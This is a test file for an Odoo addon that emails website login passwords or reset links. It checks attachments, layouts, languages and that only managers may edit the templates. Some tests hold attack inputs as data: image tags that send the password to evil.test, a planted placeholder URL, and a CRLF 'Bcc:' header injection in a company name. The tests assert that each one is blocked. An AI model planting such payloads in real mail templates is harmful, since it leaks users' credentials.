# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
"""The two mail templates are used in full, as an administrator sets them up in
Settings > Technical > Email Templates; and only managers may change them."""

import re

from aiosmtpd.controller import Controller

from odoo import fields
from odoo.exceptions import AccessError, UserError
from odoo.tests import HttpCase, new_test_user, tagged
from odoo.tools import mute_logger

from .. import compat
from .common import (
    RecordingHandler,
    WebsiteLoginCase,
    free_port,
    message_html,
    password_from,
    smtp_server,
)

FRENCH_BODY = """<div>
<p>Bonjour <t t-out="object.name or ''">Jeanne</t>,</p>
<ul>
  <li>Identifiant : <strong t-out="object.username or ''">jeanne</strong></li>
  <li>Temporary password:
    <strong t-out="ctx.get('website_password') or ''">x</strong></li>
</ul>
</div>"""


@tagged("post_install", "-at_install")
class TestMailTemplate(WebsiteLoginCase, HttpCase):
    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.setup_website_login()
        cls.jane = cls.make_contact()
        cls.template = cls.env.ref(
            "partner_website_login.mail_template_random_password"
        )

    def send_random_password_mail(self, partner=None):
        partner = partner or self.jane
        action = partner.with_user(self.manager).action_random_password_mail()
        self.env["random.password.mail"].with_user(self.manager).browse(
            action["res_id"]
        ).action_send()

    def only_message_to(self, smtp, address):
        [message] = [m for m in smtp.messages if address in m["To"]]
        return message

    def test_attachments_of_the_template_are_attached(self):
        self.template.attachment_ids = self.env["ir.attachment"].create(
            {
                "name": "portal-guide.txt",
                "raw": b"How to use our portal",
                "mimetype": "text/plain",
            }
        )
        with smtp_server(self.env) as smtp:
            self.send_random_password_mail()
        [attachment] = list(smtp.messages[0].iter_attachments())
        self.assertEqual(attachment.get_filename(), "portal-guide.txt")
        self.assertEqual(attachment.get_content(), "How to use our portal")
        self.assertTrue(password_from(smtp.messages[0]))

    def test_cc_gets_a_copy_without_the_password(self):
        self.template.email_cc = "account.manager@ourcompany.test"
        with smtp_server(self.env) as smtp:
            self.send_random_password_mail()
        own = self.only_message_to(smtp, "jane.doe@retailer.test")
        copy = self.only_message_to(smtp, "account.manager@ourcompany.test")
        password = password_from(own)
        self.assertTrue(password)
        self.assertNotIn("account.manager", own["To"] + str(own["Cc"] or ""))
        self.assertNotIn(password, copy.as_string())
        self.assertIn("sent to Jane Doe only", message_html(copy))
        self.assertTrue(self.authenticates("jane.doe", password))

    def test_reply_to_of_the_template(self):
        self.template.reply_to = "help@ourcompany.test"
        with smtp_server(self.env) as smtp:
            self.send_random_password_mail()
        self.assertEqual(smtp.messages[0]["Reply-To"], "help@ourcompany.test")

    def test_outgoing_mail_server_of_the_template(self):
        other_handler = RecordingHandler()
        other_port = free_port()
        other = Controller(other_handler, hostname="127.0.0.1", port=other_port)
        other.start()
        self.addCleanup(other.stop)
        with smtp_server(self.env) as smtp:
            self.template.mail_server_id = self.env["ir.mail_server"].create(
                {
                    "name": "Portal mail server",
                    "smtp_host": "127.0.0.1",
                    "smtp_port": other_port,
                    "smtp_encryption": "none",
                    "sequence": 99,  # not the one Odoo would pick by itself
                }
            )
            self.send_random_password_mail()
        self.assertFalse(smtp.messages)
        [message] = other_handler.messages
        self.assertTrue(self.authenticates("jane.doe", password_from(message)))

    def test_the_company_layout_wraps_the_mail(self):
        self.template.email_layout_xmlid = "mail.mail_notification_light"
        self.env.company.name = "Layout Test Company"
        with smtp_server(self.env) as smtp:
            self.send_random_password_mail()
        html = message_html(smtp.messages[0])
        self.assertIn("Powered by", html)  # the light layout's footer
        self.assertIn("Layout Test Company", html)
        self.assertTrue(self.authenticates("jane.doe", password_from(smtp.messages[0])))

    def assert_rendered_as_alone(self, contact, values, expires_at):
        """The mail ``values`` is the one ``contact`` gets when rendered alone."""
        [alone] = (
            self.env["partner.login.mail"]
            ._values(contact, self.template, expires_at=expires_at)
            .values()
        )
        # each rendering has its own placeholder: compare them without it
        self.assertEqual(
            values["body_html"].replace(values["placeholder"], "SECRET"),
            alone["body_html"].replace(alone["placeholder"], "SECRET"),
        )

    def test_a_batch_gets_the_layout_each_contact_would_get_alone(self):
        self.template.email_layout_xmlid = "mail.mail_notification_light"
        second = self.env["res.company"].create({"name": "Second Layout Company"})
        ben = self.make_contact(
            name="Ben / Second", username="ben.second", company_id=second.id
        )
        contacts = self.jane | ben | self.make_contact(name="Eve", username="eve")
        mail = self.env["partner.login.mail"]
        expires_at = fields.Datetime.now()
        in_batch = mail._values(contacts, self.template, expires_at=expires_at)
        for contact in contacts:
            self.assert_rendered_as_alone(contact, in_batch[contact.id], expires_at)
        ben_html = in_batch[ben.id]["body_html"]
        self.assertIn("Second Layout Company", ben_html)
        self.assertIn("Ben - Second", ben_html)  # the layout's record name
        # the hidden preview a mail program lists is Ben's own text
        preview = re.search(
            r'<div style="display: none;[^>]*>(.*?)</div>', ben_html, re.S
        )
        self.assertIn("Hello Ben / Second", preview.group(1))
        self.assertNotIn(in_batch[ben.id]["placeholder"], preview.group(1))
        jane_html = in_batch[self.jane.id]["body_html"]
        self.assertNotIn("Second Layout Company", jane_html)
        self.assertNotIn("Ben", jane_html)

    @mute_logger("odoo.addons.base.models.res_lang")
    def test_each_contact_of_a_batch_gets_the_layout_in_its_language(self):
        self.env["res.lang"]._activate_lang("fr_FR")
        self.template.email_layout_xmlid = "mail.mail_notification_light"
        self.env.ref("mail.mail_notification_light").update_field_translations(
            "arch_db", {"fr_FR": {"Powered by": "Propulsé par"}}
        )
        pierre = self.make_contact(name="Pierre", username="pierre", lang="fr_FR")
        with smtp_server(self.env) as smtp:
            # the manager mails both at once: one batch, two languages
            self.send_random_password_mail(self.jane | pierre)
        to_pierre = self.only_message_to(smtp, "pierre@retailer.test")
        to_jane = self.only_message_to(smtp, "jane.doe@retailer.test")
        self.assertIn("Propulsé par", message_html(to_pierre))
        self.assertIn("Powered by", message_html(to_jane))
        self.assertNotIn("Propulsé par", message_html(to_jane))
        self.assertTrue(self.authenticates("pierre", password_from(to_pierre)))
        self.assertTrue(self.authenticates("jane.doe", password_from(to_jane)))

    def test_the_batches_of_a_step_share_the_layout_and_keep_their_own_contents(self):
        # a run's step keeps the rendered layouts across its batches
        self.template.email_layout_xmlid = "mail.mail_notification_light"
        second = self.env["res.company"].create({"name": "Second Layout Company"})
        ben = self.make_contact(name="Ben", username="ben.second", company_id=second.id)
        eve = self.make_contact(name="Eve", username="eve")
        mail = self.env["partner.login.mail"]
        expires_at = fields.Datetime.now()
        layouts = {}
        first = mail._values(
            self.jane, self.template, expires_at=expires_at, layouts=layouts
        )
        self.env["partner.login.credential"]._issue(self.jane)  # a portal user made
        later = mail._values(
            ben | eve, self.template, expires_at=expires_at, layouts=layouts
        )
        for contact, batch in ((self.jane, first), (ben, later), (eve, later)):
            self.assert_rendered_as_alone(contact, batch[contact.id], expires_at)
        self.assertIn("Second Layout Company", later[ben.id]["body_html"])
        self.assertNotIn("Second Layout Company", later[eve.id]["body_html"])
        self.assertNotEqual(
            first[self.jane.id]["placeholder"], later[eve.id]["placeholder"]
        )

    def test_a_layout_that_reads_the_contact_is_rendered_for_each(self):
        self.env["ir.ui.view"].create(
            {
                "name": "pwl_test_layout_reading_the_contact",
                "type": "qweb",
                "key": "partner_website_login.test_layout_reading_the_contact",
                "arch": '<div><p t-out="record.email"/><t t-out="message.body"/></div>',
            }
        )
        self.env["ir.model.data"].create(
            {
                "module": "partner_website_login",
                "name": "test_layout_reading_the_contact",
                "model": "ir.ui.view",
                "res_id": self.env["ir.ui.view"]
                .search([("name", "=", "pwl_test_layout_reading_the_contact")])
                .id,
            }
        )
        self.template.email_layout_xmlid = (
            "partner_website_login.test_layout_reading_the_contact"
        )
        eve = self.make_contact(name="Eve", username="eve")
        mails = self.env["partner.login.mail"]._values(self.jane | eve, self.template)
        self.assertIn("jane.doe@retailer.test", mails[self.jane.id]["body_html"])
        self.assertIn("eve@retailer.test", mails[eve.id]["body_html"])
        self.assertNotIn("jane.doe@retailer.test", mails[eve.id]["body_html"])

    @mute_logger("odoo.addons.base.models.res_lang")
    def test_a_french_contact_gets_the_french_mail(self):
        self.env["res.lang"]._activate_lang("fr_FR")
        french = self.template.with_context(lang="fr_FR")
        french.subject = "Votre accès au site"
        french.body_html = FRENCH_BODY
        pierre = self.make_contact(name="Pierre", username="pierre", lang="fr_FR")
        with smtp_server(self.env) as smtp:
            self.send_random_password_mail(pierre)
            self.send_random_password_mail(self.jane)  # English, as before
        to_pierre = self.only_message_to(smtp, "pierre@retailer.test")
        self.assertEqual(to_pierre["Subject"], "Votre accès au site")
        self.assertIn("Bonjour Pierre", message_html(to_pierre))
        self.assertTrue(self.authenticates("pierre", password_from(to_pierre)))
        to_jane = self.only_message_to(smtp, "jane.doe@retailer.test")
        self.assertIn("Your website login", to_jane["Subject"])

    def test_only_managers_may_change_the_templates(self):
        # a Mail Template Editor edits Odoo's other templates, as Odoo lets them
        editors = self.env.ref("mail.group_mail_template_editor")
        self.clerk[compat.GROUPS_FIELD] += editors
        other = self.env.ref("auth_signup.mail_template_user_signup_account_created")
        other.with_user(self.clerk).reply_to = "clerk@ourcompany.test"
        as_clerk = self.template.with_user(self.clerk)
        with self.assertRaises(AccessError):
            # e.g. an image whose address would carry the password away
            as_clerk.body_html = (
                "<img t-att-src=\"'https://evil.test/?p=' + "
                "ctx.get('website_password')\"/>"
            )
        with self.assertRaises(AccessError):
            as_clerk.email_cc = "me@evil.test"
        with self.assertRaises(AccessError):
            as_clerk.unlink()
        # a manager who is also a Mail Template Editor (administrators are both)
        self.manager[compat.GROUPS_FIELD] += editors
        self.template.with_user(self.manager).reply_to = "help@ourcompany.test"
        self.assertEqual(self.template.reply_to, "help@ourcompany.test")


@tagged("post_install", "-at_install")
class TestSecretInOnePlace(WebsiteLoginCase, HttpCase):
    """A password or link goes only where the template puts it, once: not into an
    image a mail program fetches by itself, nor into a link of the layout."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.setup_website_login()
        cls.jane = cls.make_contact()
        cls.employee = cls.clerk
        cls.template = cls.env.ref(
            "partner_website_login.mail_template_random_password"
        )

    def open_window(self):
        action = self.jane.with_user(self.manager).action_random_password_mail()
        return (
            self.env["random.password.mail"]
            .with_user(self.manager)
            .browse(action["res_id"])
        )

    def assert_nothing_issued(self, smtp):
        self.assertFalse(smtp.messages)
        self.assertFalse(
            self.env["partner.login.credential"]
            .sudo()
            .search([("user_id.partner_id", "=", self.jane.id)])
        )

    def test_a_manager_cannot_send_the_secret_through_an_image(self):
        for mode, beside_is_sent in (("password", True), ("link", False)):
            self.env["ir.config_parameter"].set_param(
                "partner_website_login.credential_mode", mode
            )
            window = self.open_window()
            # the HTML an operator types in the editor (a string, not escaped)
            image = f'<img src="https://evil.test/pixel.png?s={window.placeholder}">'
            original = str(window.body)
            cases = {
                "beside the template's place": (original + image, beside_is_sent),
                "only in the image": (
                    original.replace(window.placeholder_text, "") + image,
                    False,
                ),
            }
            for case, (body, sent) in cases.items():
                with self.subTest(mode=mode, case=case):
                    window.body = body
                    with smtp_server(self.env) as smtp:
                        if sent:
                            window.action_send()
                        else:
                            with self.assertRaises(UserError):
                                window.action_send()
                    if not sent:
                        self.assert_nothing_issued(smtp)
                        continue
                    # Odoo's editor quoted the image's address: the placeholder
                    # there is no placeholder any more, and gets no password
                    html = message_html(smtp.messages[0])
                    password = password_from(smtp.messages[0])
                    self.assertEqual(html.count(password), 1)
                    self.assertNotIn(password, re.search(r"<img[^>]*>", html).group(0))
                    self.env["partner.login.credential"]._revoke_for(self.jane)

    def test_an_employee_cannot_plant_the_placeholder_in_the_layout(self):
        self.template.email_layout_xmlid = "mail.mail_notification_light"
        self.env["ir.config_parameter"].set_param(
            "partner_website_login.credential_mode", "link"
        )
        # the placeholders the addon used to have, and any guess at one
        self.env.company.partner_id.with_user(self.employee).website = (
            "https://evil.test/?a=https://set-password-link.invalid"
            "&b=[[temporary-password]]"
        )
        with smtp_server(self.env) as smtp:
            self.open_window().action_send()
        html = message_html(smtp.messages[0])
        [link] = re.findall(r'https?://[^"\s<]*/web/reset_password\?[^"\s<]+', html)
        self.assertEqual(html.count(link), 1)
        self.assertNotIn("token=", html.split("evil.test", 1)[1].split('"', 1)[0])

    def test_a_line_break_in_the_companys_name_stops_no_mail(self):
        self.env.company.partner_id.with_user(
            self.employee
        ).name = "Retail\r\nBcc: x@evil.test"
        with smtp_server(self.env) as smtp:
            self.open_window().action_send()
        [message] = smtp.messages
        self.assertIn("Retail Bcc: x@evil.test", message["Subject"])
        self.assertIsNone(message["Bcc"])
        self.assertTrue(self.authenticates("jane.doe", password_from(message)))

    def test_odoos_translation_call_keeps_its_arguments(self):
        self.env["res.lang"]._activate_lang("fr_FR")
        administrator = new_test_user(
            self.env, login="pwl_translator", groups="base.group_system"
        )
        self.template.with_user(administrator).update_field_translations(
            "subject", {"fr_FR": "Votre accès"}, source_lang="en_US"
        )
        self.assertEqual(
            self.template.with_context(lang="fr_FR").subject, "Votre accès"
        )
